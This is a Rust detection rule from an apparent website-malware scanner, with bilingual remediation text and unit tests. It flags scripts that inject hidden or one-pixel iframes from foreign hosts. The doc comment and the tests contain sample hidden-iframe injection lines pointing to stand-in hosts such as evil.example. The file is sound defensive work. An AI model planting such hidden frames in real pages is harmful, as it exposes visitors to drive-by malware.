//! Rule `script-writes-hidden-frame`: a script puts a frame into the page that the visitor cannot see.

use super::support::{Hosts, NewScript, new_scripts};
use super::{Detector, Findings, Found};
use crate::model::{Case, Confidence, Rule, Severity, StaticWords, Words};

/// # What it finds
///
/// A new script that writes or makes an `iframe`, `frame`, `object` or `embed` from an unknown host that is hidden, at most
/// two pixels large, or moved out of sight, itself or by what is written around it.
///
/// # Why it matters
///
/// The frame is not in the page's own markup, so that a look at the source shows nothing. Gumblar and the exploit kits of
/// 2009 to 2016 all ended in such a line.
///
/// # Example
///
/// ```js
/// document.write('<iframe src="http://192.0.2.7/in" width="1" height="1"></iframe>');
/// ```
///
/// # Known false alarms
///
/// Hidden frames of well-known services (tag managers, consent and payment services) and of the own site are no finding,
/// nor is a frame without an address.
///
/// # References
///
/// 8080 and Darkleech (2009–2014); Angler gates (2016).
pub(super) struct ScriptWritesHiddenFrame;

static RULE: Rule = Rule {
    id: "script-writes-hidden-frame",
    title: StaticWords {
        en: "Script writes a hidden frame", ja: "見えないフレームを書き込むスクリプト"
    },
    why: StaticWords {
        en: "A script puts a frame into the page that nobody can see. Attackers use this to load malware into every visit.",
        ja: "スクリプトが、見えないフレームをページに書き込みます。閲覧者を気付かれずに別サイトへ接続させ、ウイルスに感染させる手口です。",
    },
    first_step: StaticWords {
        en: "Ask the site's maintainers whether they added this script. If nobody did, keep a copy of the page and its script files, take them offline, and change FTP and CMS passwords from a clean computer.",
        ja: "このスクリプトを追加したか保守担当者に確認してください。心当たりがなければ、ページとスクリプトファイルの写しを残して公開を止め、安全な端末からFTPとCMSのパスワードを変更してください。",
    },
};

impl Detector for ScriptWritesHiddenFrame {
    fn rule(&self) -> &'static Rule {
        &RULE
    }

    fn examine(&self, case: &Case, out: &mut Findings) {
        let hosts = Hosts::of(case);
        out.extend(new_scripts(case).iter().filter_map(|script| judge(script, &hosts, case)));
    }
}

fn judge(script: &NewScript, hosts: &Hosts, case: &Case) -> Option<Found> {
    let foreign = script.foreign(hosts);
    let made = script.report.elements.iter().map(|made| made.markup.as_str());
    let written = script.report.markup.iter().map(String::as_str).chain(made);
    let (markup, host) = written.filter(|markup| hides_a_frame(markup)).find_map(|markup| {
        let there = foreign.iter().find(|(action, _)| in_frame(markup, &action.target));
        there.map(|(_, host)| (markup, host))
    })?;
    let severity = if case.approved.is_some() { Severity::Critical } else { Severity::High };
    let words = Words::new(
        format!("a script writes a frame from {host} that the visitor cannot see"),
        format!("スクリプトが、閲覧者に見えない {host} のフレームを書き込みます"),
    );
    Some(Found::new(severity, Confidence::Firm, words).on(script.item).decoded(markup))
}

/// Names of elements that hold another page.
const FRAMES: [&str; 4] = ["<iframe", "<frame", "<object", "<embed"];

/// Whether an address stands inside the tag of a frame. A tag that is not closed ends where the next begins, which goes on
/// with all that this one held.
fn in_frame(markup: &str, address: &str) -> bool {
    let lower = markup.to_ascii_lowercase();
    FRAMES.iter().any(|tag| {
        let mut starts = lower.match_indices(tag).map(|(at, _)| at).peekable();
        std::iter::from_fn(|| starts.next().map(|at| (at, starts.peek().copied().unwrap_or(lower.len())))).any(
            |(from, to)| {
                let rest = markup.get(from..to).unwrap_or_default();
                let tag = rest.split('>').next().unwrap_or_default();
                tag.contains(address) || (tag.contains("&quot;") && tag.replace("&quot;", "\"").contains(address))
            },
        )
    })
}

/// Whether markup holds a frame and something that hides it.
fn hides_a_frame(markup: &str) -> bool {
    let lower = markup.to_ascii_lowercase();
    if !FRAMES.iter().any(|tag| lower.contains(tag)) {
        return false;
    }
    let plain: String = lower.chars().filter(|c| !c.is_whitespace() && !matches!(c, '"' | '\'')).collect();
    let hidden = ["display:none", "visibility:hidden", "left:-", "top:-", "opacity:0;", "text-indent:-", "clip:rect("];
    hidden.iter().any(|style| plain.contains(style)) || ["width", "height"].iter().any(|name| is_tiny(&plain, name))
}

/// Whether a size is at most two pixels.
fn is_tiny(plain: &str, name: &str) -> bool {
    plain.match_indices(name).any(|(at, _)| {
        let value = plain.get(at + name.len()..).unwrap_or_default();
        let value = value.strip_prefix(['=', ':']).unwrap_or("9");
        let digits: String = value.chars().take_while(char::is_ascii_digit).collect();
        let rest = value.get(digits.len()..).unwrap_or_default();
        digits.parse::<u32>().is_ok_and(|size| size <= 2) && !rest.starts_with(['%', '.', 'e'])
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn sizes_and_styles_hide() {
        for markup in [
            "<iframe src='//evil.example/' width='1' height=1></iframe>",
            "<div style='position:absolute; left: -999px'><iframe src='//evil.example/'></iframe></div>",
            "<iframe style=\"VISIBILITY:hidden\" src='//evil.example/'></iframe>",
        ] {
            assert!(hides_a_frame(markup) && in_frame(markup, "//evil.example/"), "{markup}");
        }
        assert!(!hides_a_frame("<iframe width=100% height='200' src='//video.example/'></iframe>"));
        assert!(!hides_a_frame("<div style='display:none'></div>"));
    }
}
